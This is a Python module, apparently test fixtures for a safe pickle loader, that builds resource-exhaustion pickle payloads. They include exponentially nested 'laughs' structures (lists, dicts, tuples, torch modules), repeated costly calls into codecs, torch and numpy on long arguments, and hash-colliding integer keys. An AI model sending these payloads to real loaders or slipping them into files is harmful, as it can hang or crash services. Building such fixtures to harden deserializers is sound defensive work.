"""Pickles that ask for more than they hold: a few kilobytes that would take minutes, or gigabytes."""

import struct

PROTO = b"\x80\x02"


def text(value):
    """A pickle's opcodes for a text."""
    return b"X" + struct.pack("<I", len(value)) + value


def long_binput(key):
    return b"r" + struct.pack("<I", key)


def int_key(value):
    body = value.to_bytes(value.bit_length() // 8 + 1, "little")
    return b"\x8a" + bytes([len(body)]) + body


def _laughs(empty, put, levels=60):
    """Each level holds the one below twice: 2**60 leaves in a few hundred bytes."""
    out = PROTO + empty + b"q\x00"
    for level in range(levels):
        out += b"0" + empty + b"q" + bytes([level + 1]) + put(b"h" + bytes([level]))
    return out + b"."


LAUGHS = {
    "lists": _laughs(b"]", lambda below: b"(" + below * 2 + b"e"),
    "dictionaries": _laughs(b"}", lambda below: b"(" + text(b"a") + below + text(b"b") + below + b"u"),
    "tuples": PROTO + b")q\x00" + b"".join(b"2\x86q" + bytes([n + 1]) for n in range(60)) + b".",
}


def _calls(argument, call, count=200_000):
    """One long argument, given to a call again and again."""
    return PROTO + argument + b"q\x000" + b"(" + call * count + b"l."


REPEATED = {
    "encode a long text": _calls(
        text(b"a" * 500_000), b"c_codecs\nencode\n(h\x00" + text(b"latin1") + b"tR", count=2_000
    ),
    "size of a long tuple": _calls(b"(" + b"K\x01" * 200_000 + b"t", b"ctorch\nSize\nh\x00\x85R"),
    "set of a long list": _calls(b"](" + b"K\x01" * 200_000 + b"e", b"c__builtin__\nset\nh\x00\x85R"),
    "pairs of a long list": _calls(
        b"](" + b"K\x01K\x02\x86" * 100_000 + b"e", b"ccollections\nOrderedDict\nh\x00\x85R"
    ),
    "strides of a long tuple": _calls(
        b"(" + b"K\x01" * 200_000 + b"t", b"ctorch._utils\n_rebuild_tensor_v2\n(NK\x00h\x00h\x00tR"
    ),
    "strides of a long tuple, one call deeper": _calls(
        b"(" + b"K\x01" * 200_000 + b"t",
        b"ctorch._tensor\n_rebuild_from_type_v2\n(ctorch._utils\n_rebuild_tensor_v2\nN(NK\x00h\x00h\x00tNtR",
    ),
    "one long tuple as a key": PROTO + b"(" + b"K\x01" * 200_000 + b"tq\x000}(" + b"h\x00N" * 200_000 + b"u.",
    "array of a long text": _calls(
        b"B" + struct.pack("<I", 500_000) + bytes(500_000),
        b"cnumpy._core.numeric\n_frombuffer\n(h\x00cnumpy\ndtype\n" + text(b"u1") + b"\x85RJ"
        + struct.pack("<i", 500_000) + b"\x85" + text(b"C") + b"tR",
        count=2_000,
    ),
}  # fmt: skip
# Whole numbers whose hashes are all equal: Python reduces them modulo 2**61 - 1.
COLLIDING = {
    "whole numbers": PROTO + b"}(" + b"".join(int_key((2**61 - 1) * n) + b"N" for n in range(1, 50_000)) + b"u.",
    "set of whole numbers": b"\x80\x04\x8f("
    + b"".join(int_key((2**61 - 1) * n) for n in range(1, 50_000)) + b"\x90.",
    "tuples": PROTO + b"}(" + b"".join(int_key(n << 61) + int_key(n) + b"\x86N" for n in range(1, 50_000)) + b"u.",
}  # fmt: skip


def module(parts):
    """Opcodes for a pickled torch.nn.Module with these submodules, given as opcodes each."""
    state = b"".join(text(name) + b"}" for name in (b"_parameters", b"_buffers"))
    inside = b"".join(text(b"%d" % n) + part for n, part in enumerate(parts))
    return b"ctheirs\nNet\n)\x81}(" + state + text(b"_modules") + b"}(" + inside + b"uub"


def module_laughs(levels=60):
    out = PROTO + module([]) + b"q\x000"
    for level in range(levels):
        below = b"h" + bytes([level])
        out += module([below, below]) + b"q" + bytes([level + 1]) + b"0"
    return out + b"h" + bytes([levels]) + b"."
